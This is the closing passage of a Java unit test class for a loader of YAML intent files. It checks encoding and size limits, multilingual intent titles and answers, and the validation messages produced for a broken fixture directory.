            assertThat(e.problems()).singleElement().satisfies(p -> {
                assertThat(p.file()).isEqualTo("latin1.yaml");
                assertThat(p.message()).contains("not UTF-8");
            });
        }

        @Test
        void rejectsAFileOverTwoMegabytesWithoutReadingIt() throws Exception {
            write("huge.yaml", "intents:\n" + "#".repeat(2 * 1024 * 1024));

            InvalidIntentDatabaseException e = catchThrowableOfType(InvalidIntentDatabaseException.class,
                    () -> IntentDatabaseLoader.load(dir));

            assertThat(e.problems()).singleElement().extracting(IntentFileProblem::toString).asString()
                    .startsWith("huge.yaml: the file is 2.0 MB; the limit is 2 MB");
        }

        @Test
        void loadsTheValidFixtureDirectory() throws URISyntaxException {
            IntentDatabase database = IntentDatabaseLoader.load(fixture("valid"));

            assertThat(database.intents()).extracting(Intent::id)
                    .containsExactly("greeting", "order_status", "payment_dispute");
            assertThat(database.languages()).containsExactly("en", "fa", "it");
            Intent orders = database.find("order_status").orElseThrow();
            assertThat(orders.titleIn("it")).contains("Dov'è il mio ordine?");
            assertThat(orders.titleIn("fa")).contains("سفارش من کجاست؟");
            assertThat(orders.titleIn("de")).isEqualTo(Optional.empty());
            assertThat(orders.answersIn("en")).singleElement().asString()
                    .startsWith("You can follow your order").contains("\nTracking appears");
            assertThat(database.find("payment_dispute").orElseThrow().handoff()).isTrue();
        }

        @Test
        void reportsEveryProblemOfTheBrokenFixtureDirectory() throws URISyntaxException {
            InvalidIntentDatabaseException e = catchThrowableOfType(InvalidIntentDatabaseException.class,
                    () -> IntentDatabaseLoader.load(fixture("broken")));

            assertThat(e.problems()).extracting(IntentFileProblem::toString).containsExactly(
                    "faq.yaml:5: intent \"refunds\": language \"it\" has examples but no answers",
                    "returns.yaml:4: intent \"returns\": the example \"I want my money back!\" is also an example of "
                            + "intent \"refunds\" (faq.yaml:4); an example can belong to one intent only",
                    "returns.yaml:7: intent \"returns\": the follow-up \"shipping\" is not an intent (no intent has "
                            + "this id)",
                    "returns.yaml:8: intent \"returns\": unknown key \"handof\" (did you mean \"handoff\"?); the "
                            + "allowed keys are id, title, examples, answers, followUps, handoff, team");
        }

        private Path fixture(String name) throws URISyntaxException {
            return Path.of(getClass().getResource("/intents-fixtures/" + name).toURI());
        }
    }
}
